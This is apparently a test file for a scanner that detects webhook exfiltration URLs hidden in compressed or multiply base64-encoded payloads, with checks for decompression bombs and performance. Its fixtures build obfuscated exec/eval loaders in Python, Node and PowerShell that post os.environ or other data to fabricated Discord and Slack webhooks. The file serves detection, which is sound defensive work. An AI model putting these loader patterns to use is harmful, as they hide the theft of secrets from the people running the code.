// Decoding in depth: compressed payloads (zlib, gzip, raw deflate) inside base64 or hex, as exec/eval
// loaders carry them, and base64 nested three deep — bounded in output, reported with the chain.
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { Detector } from '../../src/detect/index.js';
import { loadProviders } from '../../src/patterns/index.js';
import { webhook } from '../support/fabricate.js';

const detector = new Detector(loadProviders().flatMap((p) => p.patterns));
const find = (text: string) => detector.detect(Buffer.from(text));
const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64');

describe('compressed payloads', () => {
  const inner = (url: string) => `import os, requests\nrequests.post("${url}", json=dict(os.environ))\n`;

  it('Python: exec(zlib.decompress(base64.b64decode(…)))', () => {
    const d = webhook('discord');
    const text = `import zlib, base64\nexec(zlib.decompress(base64.b64decode("${b64(deflateSync(inner(d.url)))}")))\n`;
    const [m] = find(text);
    expect(m.url).toBe(d.url);
    expect(m.encoding).toBe('base64');
    expect(m.context?.hidden?.[0]).toBe('zlib-compressed data inside base64 (decoded with b64decode())');
    expect(m.context?.sends).toContain('os.environ');
    // The location is the literal that carries it.
    expect(text.slice(m.start, m.end).startsWith('eJ')).toBe(true);
  });

  it('Node: zlib.inflateSync(Buffer.from(…, "base64")), gunzipSync, inflateRawSync', () => {
    const d = webhook('discord');
    for (const [call, z] of [['inflateSync', deflateSync], ['gunzipSync', gzipSync], ['inflateRawSync', deflateRawSync]] as const) {
      const text = `eval(require("zlib").${call}(Buffer.from("${b64(z(`fetch("${d.url}")`))}", "base64")).toString())`;
      const found = find(text);
      expect(found.map((m) => m.url), call).toEqual([d.url]);
      expect(found[0].context?.hidden?.[0]).toMatch(/^(zlib|gzip|deflate)-compressed data inside base64/);
    }
  });

  it('a gzip blob in base64 (H4sI…) wherever it is, e.g. a PowerShell GZipStream loader', () => {
    const d = webhook('slack');
    const text = `$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String("${b64(gzipSync(`Invoke-RestMethod -Uri "${d.url}" -Method Post`))}"))\n`;
    const [m] = find(text);
    expect(m.url).toBe(d.url);
    expect(m.context?.hidden?.[0]).toMatch(/^gzip-compressed data inside base64/);
  });

  it('hex: zlib.decompress(bytes.fromhex(…))', () => {
    const d = webhook('discord');
    const text = `exec(zlib.decompress(bytes.fromhex("${deflateSync(inner(d.url)).toString('hex')}")))`;
    const [m] = find(text);
    expect(m.url).toBe(d.url);
    expect(m.encoding).toBe('hex');
    expect(m.context?.hidden?.[0]).toBe('zlib-compressed data inside hex (decoded with fromhex())');
  });

  it('layers combine: base64 inside zlib inside base64', () => {
    const d = webhook('discord');
    const stage2 = `exec(base64.b64decode("${b64(inner(d.url))}"))`;
    const text = `exec(zlib.decompress(base64.b64decode("${b64(deflateSync(stage2))}")))`;
    const [m] = find(text);
    expect(m.url).toBe(d.url);
    expect(m.context?.hidden).toEqual(['zlib-compressed data inside base64 (decoded with b64decode())', 'base64 (decoded with b64decode())']);
  });

  it('a placeholder inside a compressed payload is not reported', () => {
    const text = `exec(zlib.decompress(base64.b64decode("${b64(deflateSync('requests.post("https://discord.com/api/webhooks/000000000000000000/YOUR_WEBHOOK_TOKEN_HERE_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")'))}")))`;
    expect(find(text)).toEqual([]);
  });

  it('a decompression bomb is cut at the budget: no crash, and the scan goes on', () => {
    const d = webhook('discord');
    const bomb = b64(deflateSync(Buffer.alloc(64 << 20)));
    const text = `exec(zlib.decompress(base64.b64decode("${bomb}")))\nurl = "${d.url}"\n`;
    const t = Date.now();
    const found = find(text);
    expect(found.map((m) => m.url)).toEqual([d.url]);
    expect(Date.now() - t).toBeLessThan(20_000);
  });

  it('garbage after a decompress call is passed over', () => {
    expect(find('data = zlib.decompress(base64.b64decode("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo="))')).toEqual([]);
    expect(find('x = gzip.decompress(payload)  # from "somewhere"')).toEqual([]);
  });
});

describe('base64 nested three deep', () => {
  it('is decoded layer by layer', () => {
    const d = webhook('discord');
    const text = `exec(b64decode(b64decode(b64decode("${b64(b64(b64(`requests.post("${d.url}")`)))}"))))`;
    const found = find(text);
    expect(found.map((m) => m.url)).toEqual([d.url]);
    expect(found[0].context?.hidden).toEqual(['base64 inside base64 inside base64 (3 layers, decoded with b64decode())']);
  });
});

describe('decoding in depth stays linear', () => {
  it('4× the compressed payloads take less than 10× the time', () => {
    const d = webhook('discord');
    const one = `exec(zlib.decompress(base64.b64decode("${b64(deflateSync(`print(1)\n`.repeat(50)))}")))\n`;
    const make = (n: number) => `${one.repeat(n)}url = "${d.url}"\n`;
    const time = (t: string) => {
      const s = process.hrtime.bigint();
      expect(find(t).length).toBe(1);
      return Number(process.hrtime.bigint() - s);
    };
    time(make(200));
    expect(time(make(800)) / time(make(200))).toBeLessThan(10);
  });
});
